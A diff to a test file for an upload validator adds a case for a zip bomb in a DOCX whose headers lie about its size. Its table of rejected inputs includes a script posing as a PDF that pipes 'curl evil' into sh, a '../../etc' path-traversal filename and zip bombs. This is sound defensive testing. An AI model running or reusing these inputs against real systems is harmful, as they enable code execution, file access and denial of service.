@@ -10,6 +10,7 @@ import { type ClamdStandIn, EICAR, standInSocketPath, startClamdStandIn } from "
 import {
   HTML_AS_PDF,
   JPEG,
+  lyingZipBombDocx,
   PNG,
   SVG,
   sampleDocx,
@@ -118,6 +119,8 @@ describe("attachments (database storage, no scanner)", () => {
       ["a script named .pdf", "avtal.pdf", utf8("#!/bin/sh\ncurl evil | sh\n"), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["SVG", "bild.svg", SVG, 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "unsupported_type"],
       ["a zip bomb inside a DOCX", "protokoll.docx", await zipBombDocx(), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
+      // Its headers claim 1,000 bytes; unpacked on a worker thread it passes the 200 MB limit.
+      ["a zip bomb whose headers lie", "avtal.docx", await lyingZipBombDocx(201), 415, "ATTACHMENT_TYPE_NOT_ALLOWED", "zip_bomb"],
       ["an empty file", "tom.pdf", new Uint8Array(), 400, "VALIDATION_FAILED", "empty_file"],
       ["a name with ../", "../../etc/avtal.pdf", pdf, 400, "VALIDATION_FAILED", "filename_path"],
       ["a name with control characters", "avtal\u0007.pdf", pdf, 400, "VALIDATION_FAILED", "filename_control_characters"],
